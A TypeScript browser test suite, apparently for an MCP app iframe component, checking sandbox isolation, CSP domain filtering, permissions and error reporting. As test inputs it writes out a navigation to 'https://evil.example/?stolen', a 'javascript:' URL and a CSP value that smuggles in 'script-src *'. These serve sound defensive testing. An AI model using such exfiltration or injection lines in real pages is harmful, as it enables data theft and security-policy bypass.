// The three kinds of isolation, and what the frame guarantees with each. test/security attacks them.
import { assert } from 'chai';
import type { McpAppFrameElement } from '../../../packages/elements/src/mcp-app-frame/mcp-app-frame.js';
import { startAttacker } from '../../security/support/attacker.js';
import { allowedIn } from '../../support/allowed-features.js';
import { engine } from '../../support/engine.js';
import type {
  SandboxResolver,
  SandboxSettings,
} from '../../../packages/elements/src/host/index.js';
import {
  connectClient,
  eventually,
  failingFrame,
  mountFrame,
  nextEvent,
  readyFrame,
  removeFrames,
  sandboxUrl,
  scriptedHtml,
  startServer,
  untilReady,
  viewEvaluates,
  viewReceived,
  viewRequests,
} from '../../support/frame-harness.js';
import { otherOrigin } from '../../support/other-origin.js';

describe('the kinds of isolation', () => {
  let html: string;
  let proxy: string;
  before(async () => {
    html = await scriptedHtml();
    proxy = await sandboxUrl();
  });
  afterEach(removeFrames);

  const iframeOf = (frame: HTMLElement) => frame.shadowRoot!.querySelector('iframe')!;

  it('S1 no setting: an opaque sandbox inside the page', async () => {
    const frame = await readyFrame({ html });
    assert.equal(frame.details.isolation, 'opaque');
    assert.equal(iframeOf(frame).getAttribute('sandbox'), 'allow-scripts allow-forms');
    assert.equal(await viewEvaluates(frame, 'self.origin'), 'null');
    assert.throws(() => iframeOf(frame).contentWindow!.document);
  });

  it('S1 sandbox-url: the page is on another origin, and the view is still opaque', async () => {
    const frame = await readyFrame({ html, sandbox: { url: proxy } });
    assert.equal(frame.details.isolation, 'origin');
    assert.include(iframeOf(frame).getAttribute('sandbox'), 'allow-same-origin');
    assert.equal(await viewEvaluates(frame, 'self.origin'), 'null');
  });

  it('S1 sandbox-file: a file of the same origin, but opaque', async () => {
    const frame = await readyFrame({
      html,
      sandbox: { file: '/packages/elements/dist/sandbox.html' },
    });
    assert.equal(frame.details.isolation, 'opaque-file');
    assert.notInclude(iframeOf(frame).getAttribute('sandbox'), 'allow-same-origin');
    assert.equal(await viewEvaluates(frame, 'self.origin'), 'null');
  });

  it('S1 refuses a same-origin page with its own rights, and says what to do', async () => {
    const { error, frame } = await failingFrame({
      html,
      sandbox: { url: '/packages/elements/dist/sandbox.html' },
    });
    assert.equal(`${error.phase}/${error.reason}`, 'sandbox/same-origin');
    assert.include(error.hint, 'another site');
    assert.isNull(frame.shadowRoot!.querySelector('iframe'));
  });

  it('bad input: a sandbox URL that is not a URL', async () => {
    const { error } = await failingFrame({ html, sandbox: { url: 'javascript:alert(1)' } });
    assert.equal(error.reason, 'bad-sandbox-url');
  });

  it('bad input: a sandbox URL that 404s', async () => {
    const { error } = await failingFrame({
      html,
      sandbox: { url: `${otherOrigin}/no-such-page.html` },
    });
    assert.equal(error.reason, 'sandbox-silent');
    assert.include(error.hint, location.origin);
  });

  it('bad input: a sandbox server that is down', async () => {
    const { error } = await failingFrame({
      html,
      sandbox: { url: 'http://127.0.0.1:9/sandbox.html' },
      limits: { sandboxTimeout: 1500 },
    });
    assert.equal(error.phase, 'sandbox');
  });

  it('S9 lets a resolver choose the sandbox by server and domain', async () => {
    const asked: unknown[] = [];
    const frame = await readyFrame({
      resource: {
        uri: 'ui://x/y',
        mimeType: 'text/html;profile=mcp-app',
        text: html,
        _meta: { ui: { domain: 'shop.example' } },
      },
      sandbox: {
        resolve: (question) => {
          asked.push(question);
          return proxy;
        },
      },
    });
    assert.equal(frame.details.isolation, 'origin');
    assert.deepEqual(asked, [
      {
        server: undefined,
        user: undefined,
        serverName: undefined,
        domain: 'shop.example',
        resourceUri: 'ui://x/y',
      },
    ]);
  });

  it("D16 S9 gives the resolver the page's name of the server and, separately, the server's own name", async () => {
    const asked: (string | undefined)[][] = [];
    const url = await startServer(2);
    const client = await connectClient(url, 2);
    const resolve: SandboxResolver = ({ server, serverName }) => {
      asked.push([server, serverName]);
      return undefined;
    };
    const own = client.getServerVersion()!.name;
    await readyFrame({ client, tool: 'app', serverId: 'shop', sandbox: { resolve } });
    await readyFrame({ client, tool: 'app', sandbox: { resolve } });
    await readyFrame({ server: url, tool: 'app', sandbox: { resolve } });
    assert.deepEqual(asked, [
      ['shop', own],
      [undefined, own],
      [url, own],
    ]);
    await client.close();
  });

  it('S9 explains a resolver that fails', async () => {
    const { error } = await failingFrame({
      html,
      sandbox: {
        resolve: () => {
          throw new Error('no such tenant');
        },
      },
    });
    assert.include(error.message, 'no such tenant');
  });

  it('S2 S3 works with a plain proxy page that knows only the specification', async () => {
    const frame = await readyFrame({
      html,
      sandbox: { url: `${otherOrigin}/test/pages/plain-proxy.html` },
      toolInput: { a: 1 },
      handlers: { callTool: () => ({ content: [] }) },
    });
    assert.deepEqual((await viewRequests(frame, 'tools/call', { name: 'x' })).result, {
      content: [],
    });
    const [input] = await eventually(async () => {
      const received = await viewReceived(frame, 'ui/notifications/tool-input');
      return received.length > 0 && received;
    });
    assert.deepEqual(input!.params, { arguments: { a: 1 } });
  });

  it('S2 S3 works with a newer version of our page, which sends more than this version knows', async () => {
    const troubles: string[] = [];
    const versions: unknown[] = [];
    const hear = ({ data }: MessageEvent) => versions.push(data?.params?.version);
    addEventListener('message', hear);
    const frame = mountFrame({
      html,
      sandbox: {
        url: `${otherOrigin}/test/browser/sandbox/pages/newer.html?hosts=${location.origin}`,
      },
      handlers: { callTool: () => ({ content: [] }) },
    });
    for (const type of ['mcp-app-error', 'mcp-app-refused'])
      frame.addEventListener(type, () => troubles.push(type));
    await untilReady(frame);
    removeEventListener('message', hear);
    assert.include(versions, '99.0.0');
    const { result } = await viewRequests(frame, 'tools/call', { name: 'x' });
    assert.deepEqual(result, { content: [] });
    // It is recognized as ours: its reports arrive.
    const blocked = nextEvent(frame, 'mcp-app-csp-violation');
    await viewEvaluates(frame, `fetch('https://elsewhere.invalid/').catch(() => 0)`);
    assert.equal((await blocked).directive, 'connect-src');
    assert.deepEqual(troubles, []);
  });

  it('applies the limits to what a plain proxy forwards', async () => {
    const frame = await readyFrame({
      html,
      sandbox: { url: `${otherOrigin}/test/pages/plain-proxy.html` },
      limits: { maxMessageBytes: 10_000 },
    });
    const refused = nextEvent(frame, 'mcp-app-refused');
    await frame.callAppTool('evaluate', {
      code: `post({ method: 'notifications/message', params: { level: 'info', data: 'x'.repeat(50000) } }); 1`,
    });
    assert.equal((await refused).refusals[0]!.kind, 'message');
    assert.deepEqual((await viewRequests(frame, 'ping')).result, {});
  });

  for (const mode of ['opaque', 'origin'] as const) {
    const settings = (more: SandboxSettings = {}) => ({
      sandbox: { ...(mode === 'origin' && { url: proxy }), ...more },
    });

    it(`S6 sets permissions on both iframes, filtered by the page's list (${mode})`, async () => {
      const frame = await readyFrame({
        resource: { text: html, _meta: { ui: { permissions: { microphone: {}, camera: {} } } } },
        ...settings({ allow: ['microphone', 'clipboard-write'] }),
      });
      assert.equal(allowedIn(iframeOf(frame).allow), 'microphone');
    });

    it(`S4 blocks an undeclared domain, and dispatches an event (${mode})`, async () => {
      const frame = await readyFrame({ html, ...settings() });
      const violation = nextEvent(frame, 'mcp-app-csp-violation');
      const fetched = await viewEvaluates(
        frame,
        `fetch(${JSON.stringify(location.origin)} + '/package.json').then(() => 'open', () => 'blocked')`,
      );
      assert.equal(fetched, 'blocked');
      assert.deepInclude(await violation, { directive: 'connect-src' });
    });

    // no-cors: the server decides whether the answer may be read; the policy decides whether it is requested.
    const canFetch = (frame: McpAppFrameElement, origin: string) =>
      viewEvaluates(
        frame,
        `fetch(${JSON.stringify(origin)} + '/x', { mode: 'no-cors' }).then(() => 'open', () => 'blocked')`,
      );

    it(`S4 does not open loopback services for a page on loopback unless it says so (${mode})`, async () => {
      const { url } = await startAttacker([]);
      const frame = mountFrame({
        resource: { text: html, _meta: { ui: { csp: { connectDomains: [url] } } } },
        ...settings(),
      });
      const refused = nextEvent(frame, 'mcp-app-refused');
      await nextEvent(frame, 'mcp-app-ready');
      assert.include((await refused).refusals[0]!.reason, 'allowLoopback');
      assert.equal(await canFetch(frame, url), 'blocked');
    });

    it(`S5 opens a declared domain, but not the page's own under another name (${mode})`, async () => {
      const { url } = await startAttacker([]);
      const frame = await readyFrame({
        resource: { text: html, _meta: { ui: { csp: { connectDomains: [url, otherOrigin] } } } },
        ...settings({ allowLoopback: true }),
      });
      assert.equal(await canFetch(frame, url), 'open');
      assert.equal(await canFetch(frame, otherOrigin), 'blocked');
    });

    it(`allows eval by default, and not with strict-csp (${mode})`, async () => {
      const lax = await readyFrame({ html, ...settings() });
      assert.equal(await viewEvaluates(lax, '1 + 1'), 2);
      const strict = await readyFrame({ html, ...settings({ strictCsp: true }) });
      const outcome = await strict.callAppTool('evaluate', { code: '1 + 1' }).then(
        () => 'ran',
        () => 'blocked',
      );
      assert.equal(outcome, 'blocked');
    });

    it(`stops a view that navigates away and reports it if the view dies (${mode})`, async () => {
      const frame = await readyFrame({ html, ...settings() });
      const blocked = nextEvent(frame, 'mcp-app-csp-violation');
      const failed = engine === 'chromium' && nextEvent(frame, 'mcp-app-error');
      await frame.callAppTool('evaluate', {
        code: `setTimeout(() => { location.href = 'https://evil.example/?stolen' }, 50); 1`,
      });
      assert.equal((await blocked).directive, 'frame-src');
      // Only Chromium leaves a dead view behind.
      if (failed) {
        const { phase, reason } = await failed;
        assert.equal(`${phase}/${reason}`, 'view/navigated-away');
      } else assert.deepEqual((await viewRequests(frame, 'ping')).result, {});
    });

    it(`hides the page's URL and referrer from the view (${mode})`, async () => {
      const frame = await readyFrame({ html, ...settings() });
      assert.equal(await viewEvaluates(frame, 'document.baseURI'), 'about:srcdoc');
      assert.equal(await viewEvaluates(frame, 'document.referrer'), '');
    });

    it(`allows the sandbox tokens that the page opts into, but never the dangerous ones (${mode})`, async () => {
      const frame = await readyFrame({
        html,
        ...settings({ tokens: ['allow-modals', 'allow-top-navigation' as 'allow-modals'] }),
      });
      const tokens = iframeOf(frame).getAttribute('sandbox')!;
      assert.include(tokens, 'allow-modals');
      assert.notInclude(tokens, 'top-navigation');
    });
  }

  it('S4 refuses and reports bad domains, and grants the rest', async () => {
    const refused = new Promise<string[]>((resolve) => {
      document.addEventListener(
        'mcp-app-refused',
        (event) =>
          resolve(
            (event as HTMLElementEventMap['mcp-app-refused']).refusals.map(({ what }) => what),
          ),
        { once: true },
      );
    });
    await readyFrame({
      resource: {
        text: html,
        _meta: {
          ui: {
            csp: {
              connectDomains: ['https://ok.example; script-src *', 'https://ok.example', '*'],
            },
            permissions: { camera: {} },
          },
        },
      },
    });
    assert.deepEqual(await refused, [
      'connectDomains: https://ok.example; script-src *',
      'connectDomains: *',
      'camera',
    ]);
  });
});
